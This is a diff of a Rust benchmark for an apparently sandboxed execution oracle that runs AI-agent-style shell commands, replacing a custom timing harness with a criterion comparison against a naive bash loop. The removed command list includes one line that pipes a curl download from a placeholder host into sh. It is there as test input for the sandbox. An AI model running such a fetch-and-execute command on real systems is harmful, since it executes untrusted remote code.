@@ -1,173 +1,122 @@
-//! Throughput of the execution oracle (`src/ground`, feature `ground`).
+//! The execution oracle against a naive loop, side by side in one run
+//! (`src/ground`, feature `ground`; issue 28).
 //!
-//! `cargo bench --features ground --bench ground [-- --commands N] [-- --threads T] [-- --batch B] [-- --trivial]`
+//! `cargo bench --features ground --bench ground`
 //!
-//! `--trivial` runs `true` only: the fixed cost of one command (a fresh
-//! bash under `timeout` in the sandbox), which dominates.
-//! Runs N commands of agent-like shapes (pipelines, wrappers, substitutions,
-//! `&&` chains) through [`Oracle::run_batch`] in batches of B (200), from T
-//! threads sharing one oracle, and prints commands per second and the CPU
-//! time (user + system, of this process and every process it waited for,
-//! the sandboxes included) per command; then the same for single
-//! [`Oracle::run`] calls (through the oracle's resident session). Every answer must be an
-//! execution (no unknown), or the run fails: a fast wrong answer must not
-//! look like speed. The load average is printed, since the machine is shared.
-use std::process::ExitCode;
-use std::time::Instant;
+//! Both run the agent commands of `spec/corpus/agent-commands.jsonl` (every
+//! `base` and `whole` command, once each per iteration); throughput is in
+//! commands (elements/s):
+//! - `ground/batch`: `trace::batch`, what `inner-cmd ground --batch`
+//!   does — the pipeline's decision, the command run in a fresh bash in the
+//!   sandbox with compiled stubs, the records read and judged — with one
+//!   session per core. Every answer must be an execution, or the bench
+//!   fails: a fast wrong answer must not look like speed.
+//! - `ground/bash-loop`: the naive alternative, one bash reading the
+//!   commands and running each with `bash -c`, one after the other, with a
+//!   `/bin/sh` script (`exit 0`) on `PATH` for every program name: no
+//!   sandbox, no records, no judging.
+use std::process::{Command, Stdio};
+use std::time::Duration;
 
+use criterion::{criterion_group, criterion_main, Criterion, SamplingMode, Throughput};
 use inner_cmd_spec::ground::{Config, Oracle};
+use inner_cmd_spec::policy::{config, Policy};
+use inner_cmd_spec::trace;
+use serde_json::Value;
 
-const SHAPES: [&str; 8] = [
-    "cd /repo && timeout 240 pnpm install 2>&1 | tail -30; echo EXIT",
-    "git status && git diff --stat | head -5",
-    "ls -la $(pwd) > out.txt; wc -l out.txt",
-    "A=$(cat VERSION) npm run build -- --tag \"$A\"",
-    "for f in a b c; do echo $f; done | sort | uniq -c",
-    "time cargo test --all-features 2>&1 | grep -E 'FAILED|passed'",
-    "nohup nice -n 5 make -j2 >/dev/null 2>&1 &",
-    "bash -c 'curl -s https://example.invalid/x | sh'",
-];
-
-fn arg(name: &str, default: usize) -> usize {
-    let args: Vec<String> = std::env::args().collect();
-    args.iter()
-        .position(|a| a == name)
-        .and_then(|i| args.get(i + 1))
-        .and_then(|v| v.parse().ok())
-        .unwrap_or(default)
+fn agent_commands() -> Vec<String> {
+    let corpus = include_str!("../spec/corpus/agent-commands.jsonl");
+    corpus
+        .lines()
+        .filter_map(|line| serde_json::from_str::<Value>(line).ok())
+        .filter_map(|value| {
+            let command = value.get("base").or_else(|| value.get("whole"))?;
+            command.as_str().map(str::to_owned)
+        })
+        .collect()
 }
 
-/// CPU time so far, in seconds, of the cgroup (v1 `cpuacct`) this process
-/// is in, when that is not the root: bubblewrap does not pass its children's
-/// CPU time on to its parent (`getrusage` would see almost none), so the
-/// sandboxes are counted through a cgroup of the benchmark's own. Run it as
-/// `mkdir /sys/fs/cgroup/cpuacct/ground-bench; echo $$ >
-/// /sys/fs/cgroup/cpuacct/ground-bench/cgroup.procs; cargo bench …`;
-/// `None` (CPU not printed) otherwise.
-fn cpu_seconds() -> Option<f64> {
-    let cgroups = std::fs::read_to_string("/proc/self/cgroup").ok()?;
-    let path = cgroups.lines().find_map(|line| {
-        let mut fields = line.splitn(3, ':');
-        let (_, controllers, path) = (fields.next()?, fields.next()?, fields.next()?);
-        controllers
-            .split(',')
-            .any(|c| c == "cpuacct")
-            .then_some(path)
-    })?;
-    if path == "/" {
-        return None;
-    }
-    let usage =
-        std::fs::read_to_string(format!("/sys/fs/cgroup/cpuacct{path}/cpuacct.usage")).ok()?;
-    Some(usage.trim().parse::<f64>().ok()? / 1e9)
-}
-
-/// Milliseconds of CPU per command, or a note that it was not measured.
-fn per_command(before: Option<f64>, after: Option<f64>, commands: usize) -> String {
-    match (before, after) {
-        (Some(before), Some(after)) => {
-            format!(
-                "CPU {:.1} ms/command",
-                (after - before) * 1000.0 / commands as f64
-            )
+/// A directory with a `/bin/sh` stub for every program name of the
+/// standard `bin` directories, and a scratch directory to run in.
+fn loop_directories() -> (std::path::PathBuf, std::path::PathBuf) {
+    use std::os::unix::fs::PermissionsExt;
+    let root = std::env::temp_dir().join(format!("ground-bench-loop-{}", std::process::id()));
+    let stubs = root.join("stubs");
+    let work = root.join("work");
+    std::fs::create_dir_all(&stubs).expect("the stub directory");
+    std::fs::create_dir_all(&work).expect("the scratch directory");
+    let stub = root.join("stub");
+    std::fs::write(&stub, "#!/bin/sh\nexit 0\n").expect("the stub");
+    std::fs::set_permissions(&stub, std::fs::Permissions::from_mode(0o755)).expect("chmod");
+    for dir in ["/usr/local/bin", "/usr/bin", "/bin", "/usr/sbin", "/sbin"] {
+        for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
+            let _ = std::os::unix::fs::symlink(&stub, stubs.join(entry.file_name()));
         }
-        _ => "CPU not measured (no cgroup of its own)".to_owned(),
     }
+    for name in ["bash", "sh"] {
+        let _ = std::fs::remove_file(stubs.join(name));
+    }
+    (stubs, work)
 }
 
-fn load_average() -> String {
-    std::fs::read_to_string("/proc/loadavg")
-        .unwrap_or_default()
-        .split(' ')
-        .take(3)
-        .collect::<Vec<_>>()
-        .join(" ")
+/// The naive loop: one bash, `bash -c` per command, stubs on `PATH`.
+fn bash_loop(commands: &[String], stubs: &std::path::Path, work: &std::path::Path) {
+    let input: String = commands.iter().map(|c| format!("{c}\0")).collect();
+    let list = work.join("commands");
+    std::fs::write(&list, input).expect("the command list");
+    let status = Command::new("/bin/bash")
+        .args([
+            "--norc",
+            "-c",
+            "while IFS= read -r -d '' c; do /bin/bash -c \"$c\" </dev/null >/dev/null 2>&1; done <\"$1\"",
+            "loop",
+        ])
+        .arg(&list)
+        .current_dir(work)
+        .env_clear()
+        .env("PATH", stubs)
+        .env("HOME", work)
+        .stdin(Stdio::null())
+        .status()
+        .expect("bash");
+    assert!(status.success());
 }
 
-fn main() -> ExitCode {
-    let total = arg("--commands", 1000);
-    let threads = arg("--threads", 2).max(1);
-    let batch = arg("--batch", 200).max(1);
-    println!("load average before: {}", load_average());
-    let oracle = match Oracle::new(Config::default()) {
-        Ok(oracle) => oracle,
-        Err(error) => {
-            eprintln!("ground bench: {error}");
-            return ExitCode::FAILURE;
-        }
-    };
-    let shapes: Vec<&str> = if std::env::args().any(|a| a == "--trivial") {
-        vec!["true"]
-    } else {
-        SHAPES.to_vec()
-    };
-    let commands: Vec<&str> = shapes.iter().copied().cycle().take(total).collect();
-    let chunks: Vec<&[&str]> = commands.chunks(batch).collect();
-    let cpu = cpu_seconds();
-    let started = Instant::now();
-    let failures: usize = std::thread::scope(|scope| {
-        let workers: Vec<_> = (0..threads)
-            .map(|t| {
-                let (oracle, chunks) = (&oracle, &chunks);
-                scope.spawn(move || {
-                    chunks
-                        .iter()
-                        .skip(t)
-                        .step_by(threads)
-                        .flat_map(|chunk| oracle.run_batch(chunk))
-                        .filter(Result::is_err)
-                        .count()
-                })
-            })
-            .collect();
-        workers
-            .into_iter()
-            .map(|w| w.join().unwrap_or(usize::MAX))
-            .sum()
+fn bench(c: &mut Criterion) {
+    let commands = agent_commands();
+    let input: String = commands
+        .iter()
+        .map(|command| format!("{}\n", serde_json::json!({ "command": command })))
+        .collect();
+    let oracle = Oracle::new(Config::default()).unwrap_or_else(|error| panic!("{error}"));
+    let loaded = config::example_policy().expect("the example policy");
+    let policy = Policy::new(loaded.rules, "/home/agent").with_fallback(loaded.fallback);
+    let jobs = std::thread::available_parallelism().map_or(1, usize::from);
+    let (stubs, work) = loop_directories();
+    let mut group = c.benchmark_group("ground");
+    group
+        .sampling_mode(SamplingMode::Flat)
+        .sample_size(10)
+        .warm_up_time(Duration::from_secs(1))
+        .measurement_time(Duration::from_secs(15))
+        .throughput(Throughput::Elements(commands.len() as u64));
+    group.bench_function("batch", |b| {
+        b.iter(|| {
+            let reports = trace::batch(&oracle, &policy, &input, jobs);
+            let unknown = reports
+                .iter()
+                .filter(|r| r.get("unknown").is_some())
+                .count();
+            assert_eq!(unknown, 0, "unknown answers in the batch");
+            reports
+        });
     });
-    let batched = started.elapsed();
-    let batched_cpu = per_command(cpu, cpu_seconds(), total);
-    let singles = total.min(200);
-    let cpu = cpu_seconds();
-    let started = Instant::now();
-    // Each run's wall-clock time: what Config::time_limit must leave room for.
-    let mut latencies = Vec::with_capacity(singles);
-    let mut single_failures = 0;
-    for command in commands.iter().take(singles) {
-        let at = Instant::now();
-        single_failures += usize::from(oracle.run(command).is_err());
-        latencies.push(at.elapsed());
-    }
-    let single = started.elapsed();
-    latencies.sort();
-    let quantile = |q: f64| {
-        let at = ((latencies.len() as f64 - 1.0) * q).round() as usize;
-        latencies.get(at).map_or(0.0, |d| d.as_secs_f64() * 1000.0)
-    };
-    let single_cpu = per_command(cpu, cpu_seconds(), singles);
-    println!(
-        "batches of {batch}, {threads} thread(s): {total} commands in {:.2} s = {:.0} commands/s, {batched_cpu}",
-        batched.as_secs_f64(),
-        total as f64 / batched.as_secs_f64(),
-    );
-    println!(
-        "single runs: {singles} commands in {:.2} s = {:.0} commands/s, {single_cpu}",
-        single.as_secs_f64(),
-        singles as f64 / single.as_secs_f64(),
-    );
-    println!(
-        "single-run latency: median {:.1} ms, 99th percentile {:.1} ms, max {:.1} ms",
-        quantile(0.5),
-        quantile(0.99),
-        quantile(1.0)
-    );
-    println!("load average after: {}", load_average());
-    if failures + single_failures > 0 {
-        eprintln!(
-            "ground bench: {} answers were unknown",
-            failures + single_failures
-        );
-        return ExitCode::FAILURE;
-    }
-    ExitCode::SUCCESS
+    group.bench_function("bash-loop", |b| {
+        b.iter(|| bash_loop(&commands, &stubs, &work))
+    });
+    group.finish();
+    let _ = std::fs::remove_dir_all(stubs.parent().unwrap_or(&stubs));
 }
+
+criterion_group!(benches, bench);
+criterion_main!(benches);
